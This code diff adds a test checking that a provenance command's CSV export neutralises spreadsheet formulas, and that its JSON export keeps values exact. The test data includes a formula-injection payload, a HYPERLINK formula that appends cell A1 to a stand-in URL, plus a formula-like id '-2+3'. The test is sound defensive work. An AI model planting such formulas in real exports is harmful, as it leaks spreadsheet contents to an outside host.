@@ -190,6 +190,27 @@ suite('provenance', () => {
     assert.deepEqual((await client.verify()).problems, [])
   })
 
+  test('a campaign that a spreadsheet would calculate is text in CSV, and exact elsewhere', async () => {
+    const campaign = '=HYPERLINK("http://shop.example/?"&A1,"win")'
+    const odd = { ...letters[0]!, id: '-2+3', n: letters.length + 1, customer: customers[2]!, campaign }
+    assert.equal((await client.ingest('letters', [odd])).accounting.passed, 1)
+    const { id } = await client.materialize({ view: 'reader', at: thread.snapshot.at })
+    const of = ['provenance', String(id), '--subject', thread.subjects[2]!]
+    const csv = await whence(...of)
+    const exact = await whence(...of, '--json')
+    assert.deepEqual([csv.code, exact.code], [0, 0], csv.stderr)
+    const lines = csv.stdout.split('\n').filter((line) => line.includes('HYPERLINK'))
+    assert.ok(lines.length > 0)
+    for (const line of lines) {
+      assert.ok(line.includes(`,'-2+3,`), line)
+      assert.ok(line.includes(`"'=HYPERLINK(""http://shop.example/?""&A1,""win"")"`), line)
+    }
+    const rows = exact.stdout.trim().split('\n')
+    const found = rows.map((row) => JSON.parse(row) as ProvenanceRow).filter((row) => row.campaign === campaign)
+    assert.equal(found.length, lines.length)
+    assert.ok(found.every((row) => row.campaign_event_id === '-2+3'))
+  })
+
   test('the command refuses what it cannot do, and leaves no half of a file', async () => {
     const id = String(thread.snapshot.id)
     for (const args of [
